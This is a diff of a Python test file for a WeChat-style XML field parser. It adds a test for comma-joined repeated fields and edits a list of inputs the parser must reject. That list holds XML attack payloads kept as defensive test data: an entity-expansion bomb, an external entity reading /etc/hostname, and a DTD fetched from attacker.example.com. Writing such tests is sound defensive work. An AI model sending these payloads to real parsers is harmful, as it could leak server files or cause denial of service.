@@ -287,6 +287,14 @@ def test_fields_are_read_by_their_path() -> None:
     assert weixin.fields(document.encode()) == {"A": " a <b>", "B": "", "C.D": "1", "C.E.D": "2"}
 
 
+def test_a_field_that_is_repeated_is_told_with_commas() -> None:
+    assert weixin.fields(b"<xml><A>1</A><B>2</B><A>3</A><C><D>4</D><D>5</D></C></xml>") == {
+        "A": "1,3",
+        "B": "2",
+        "C.D": "4",
+    }
+
+
 def test_control_characters_do_not_cost_a_message() -> None:
     assert weixin.fields(b"<xml><A>a\x00\x08\x1b\tb</A></xml>") == {"A": "a\tb"}
     assert weixin.fields("<xml><A>a\uffff\ufffeb\uffbf😀</A></xml>".encode()) == {"A": "ab\uffbf😀"}
@@ -302,7 +310,7 @@ BOMB = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{
         '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><xml><A>&a;</A></xml>',
         '<!DOCTYPE x SYSTEM "http://attacker.example.com/x.dtd"><xml/>',
         "<xml><A>&a;</A></xml>",
-        "<xml><A>1</A><A>2</A></xml>",
+        "<xml><FromUserName>1</FromUserName><FromUserName>2</FromUserName></xml>",
         "<xml>" * 9 + "</xml>" * 9,
         "<xml>" + "<a/>" * 5001 + "</xml>",
         "<xml>" + "a" * (1 << 20) + "</xml>",
